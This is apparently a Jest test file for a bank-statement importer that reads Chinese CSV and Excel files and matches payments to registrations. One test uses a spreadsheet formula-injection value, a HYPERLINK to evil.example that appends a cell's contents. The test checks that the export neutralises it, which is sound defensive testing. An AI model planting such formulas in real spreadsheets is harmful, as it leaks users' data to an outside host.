import { parse } from 'csv-parse/sync';
import { performance } from 'node:perf_hooks';
import readXlsx from 'read-excel-file/node';
import writeXlsx from 'write-excel-file/node';
import { instantAt } from '../../domain/instant';
import { columnsIn, headingsIn, readStatement, type Statement } from '../../domain/statement';
import { matchLines, type Owing } from '../../domain/statement-match';
import { paymentReference } from '../../domain/payment-reference';
import { linesSheet } from '../../portal/pages/staff/statements/lines';
import { tableIn } from '../../portal/table-file';
import { sayIn, type Page } from '../../portal/web/page';
import { csvOf, xlsxOf } from '../../portal/web/sheet';
import { gb18030 } from '../support/gb18030';

const HEAD = ['交易时间', '收入金额', '支出金额', '对方户名', '附言', '交易流水号'];
const TODAY = '2026-03-27';

const csv = (rows: readonly (readonly string[])[], ends = '\r\n') => rows.map((cells) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join(ends);
const row = (changes: Readonly<Record<number, string>> = {}) => ['2026-03-20 09:05', '375.00', '', '张三', '报名费', 'R1'].map((cell, at) => changes[at] ?? cell);

async function statementIn(bytes: Uint8Array): Promise<Statement> {
  const table = await tableIn(bytes);
  if (!table.ok) throw new Error(JSON.stringify(table.refusal));
  return readStatement(table.value, columnsIn(headingsIn(table.value)?.headings ?? []), TODAY);
}

const LINE = { row: 2, receivedAt: instantAt('2026-03-20', '09:05'), fen: 37_500, bankReference: 'R1', payer: '张三', remark: '报名费' };

describe('a statement’s file', () => {
  const text = csv([HEAD, row()]);
  // More than a screen of ASCII before the first Chinese character.
  const late = csv([['Account', '6222'], ...Array.from({ length: 200 }, (_, at) => [`line ${at}`, 'opening balance 0.00']), HEAD, row()]);
  test.each([
    ['UTF-8', Buffer.from(text)],
    ['UTF-8 with its mark', Buffer.from(`\uFEFF${text}`)],
    ['GB18030', gb18030(text)],
    ['with tabs', Buffer.from([HEAD, row()].map((cells) => cells.join('\t')).join('\n'))],
    ['with line ends of old', Buffer.from(csv([HEAD, row()], '\r'))],
    ['with blank lines at the end', Buffer.from(`${text}\r\n\r\n\r\n`)],
  ])('in %s says the same', async (_, bytes) => {
    expect(await statementIn(bytes)).toEqual({ lines: [LINE], problems: [], outgoing: 0 });
  });

  test('with a blank line between is counted as the spreadsheet counts, as CSV and as a workbook', async () => {
    const book = [HEAD, [], row()].map((cells) => cells.map((value) => ({ value, type: String })));
    for (const bytes of [Buffer.from(`${csv([HEAD])}\r\n\r\n${csv([row()])}`), await writeXlsx(book).toBuffer()]) expect((await statementIn(bytes)).lines).toEqual([{ ...LINE, row: 3 }]);
  });

  test('that begins in ASCII and turns out GB18030 later is read whole', async () => {
    const headingsAt = late.indexOf(HEAD[0]!);
    expect(headingsAt).toBeGreaterThan(4096);
    const table = await tableIn(gb18030(late));
    expect(table.ok && table.value.at(-1)).toEqual(row());
  });

  test('of two encodings is refused, or keeps every amount and reference as it is', async () => {
    const bytes = Buffer.concat([gb18030(`${csv([HEAD, row()])}\r\n`), Buffer.from(csv([row({ 1: '65.00', 3: '李四', 5: 'R2' })]))]);
    const table = await tableIn(bytes);
    if (table.ok) expect((await statementIn(bytes)).lines).toMatchObject([{ fen: 37_500, bankReference: 'R1', payer: '张三' }, { fen: 6_500, bankReference: 'R2' }]);
    else expect(table.refusal.code).toBe('table-unreadable');
  });

  test('keeps commas, quotes and line breaks inside their cells', async () => {
    const remark = '报名费，\n代"张三"缴, DK';
    expect((await statementIn(Buffer.from(csv([HEAD, row({ 1: '1,234.00', 4: remark })])))).lines).toMatchObject([{ fen: 123_400, remark }]);
    expect(await tableIn(Buffer.from(`${csv([HEAD])}\n"never closed`))).toMatchObject({ ok: false, refusal: { code: 'table-unreadable' } });
  });

  test('has digits of any width, and money that went out beside money that came in', async () => {
    const rows = [HEAD, row({ 1: '３７５．００' }), row({ 1: '-88.00', 5: 'R2' }), row({ 1: '', 2: '88.00', 5: 'R3' })];
    expect(await statementIn(Buffer.from(csv(rows)))).toMatchObject({ lines: [{ fen: 37_500 }], problems: [], outgoing: 2 });
  });

  test('as a workbook may have dates as dates, as text and as bare numbers, and amounts as numbers', async () => {
    const cell = (value: string | number | Date) => ({ value, type: (typeof value === 'number' ? Number : value instanceof Date ? Date : String) as StringConstructor, ...(value instanceof Date && { format: 'yyyy-mm-dd hh:mm' }) });
    const rows = [new Date('2026-03-20T09:05:00Z'), '2026-03-20 09:05', 46_101 + (9 * 60 + 5) / 1440, 46_101].map((when, at) => [cell(when), cell(375), cell(''), cell('张三'), cell('报名费'), cell(`R${at}`)]);
    const { lines, problems } = await statementIn(await writeXlsx([HEAD.map(cell), ...rows]).toBuffer());
    const noon = instantAt('2026-03-20', '12:00');
    expect([lines.map(({ receivedAt }) => receivedAt), problems]).toEqual([[LINE.receivedAt, LINE.receivedAt, LINE.receivedAt, noon], []]);
    expect(lines.every(({ fen }) => fen === 37_500)).toBe(true);
  });
});

describe('a formula in a remark', () => {
  const remark = '=HYPERLINK("http://evil.example/?"&A1,"查看")';
  const page = { say: sayIn('zh'), lang: 'zh' } as Page;
  const read = async () => {
    const statement = await statementIn(Buffer.from(csv([HEAD, row({ 3: '=1+1', 4: remark })])));
    return { statement, lines: matchLines(statement.lines, [], () => false) };
  };

  test('is text like any other when it is taken in', async () => {
    expect((await read()).lines).toMatchObject([{ payer: '=1+1', remark, match: { kind: 'unmatched' } }]);
  });

  test('is no formula in what is given out, as CSV or as a workbook', async () => {
    const { lines, statement } = await read();
    const sheet = linesSheet(page, { id: '', file: { bank: '', table: [], columns: columnsIn(HEAD), by: { role: 'cashier', id: 'c' }, at: 0 }, headings: HEAD, statement, lines, people: new Map() }, lines);
    const [, first = []] = parse(csvOf(sheet, page), { bom: true });
    expect(first).toEqual(expect.arrayContaining([`'${remark}`, `'=1+1`]));
    const [book] = (await readXlsx(await xlsxOf(sheet, page))) as unknown as { data: unknown[][] }[];
    expect(book?.data[1]).toEqual(expect.arrayContaining([remark]));
  });
});

describe('ten thousand lines', () => {
  const LINES = 10_000;
  const owing = Array.from({ length: 400 }, (_, at): Owing => ({ registration: (BigInt(at + 1) * 0x9e3779b97f4a7c15f39cc0605cedc835n % 2n ** 130n).toString(32).padStart(26, '0'), name: `考生${at}号`, fen: 37_500, employers: [`公司${at % 40}`] }));
  const rows = Array.from({ length: LINES }, (_, at) => row({ 3: `陌生人${at}`, 4: at < 400 ? paymentReference(owing[at]!.registration) : `货款 ${at}`, 5: `R${at}` }));

  async function timed(bytes: Uint8Array): Promise<number> {
    const since = performance.now();
    const { lines } = await statementIn(bytes);
    const matched = matchLines(lines, owing, () => false);
    const took = performance.now() - since;
    expect([lines.length, matched.filter(({ match }) => match.kind === 'matched').length]).toEqual([LINES, 400]);
    return took;
  }

  test('are read and matched without keeping anybody waiting', async () => {
    expect(await timed(Buffer.from(csv([HEAD, ...rows])))).toBeLessThan(4_000);
  });

  test('of a workbook likewise', async () => {
    const book = await writeXlsx([HEAD, ...rows].map((cells) => cells.map((value) => ({ value, type: String })))).toBuffer();
    expect(await timed(book)).toBeLessThan(8_000);
  });
});
